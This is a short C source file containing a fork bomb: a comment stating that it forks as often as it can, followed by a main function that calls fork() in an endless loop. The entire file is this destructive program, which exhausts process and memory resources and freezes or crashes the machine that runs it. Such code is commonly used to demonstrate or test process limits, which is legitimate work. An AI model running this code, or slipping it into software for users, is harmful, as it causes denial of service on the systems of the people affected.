// Forks as often as it can, in every process.
#include <unistd.h>

int main(void) {
    for (;;)
        fork();
}
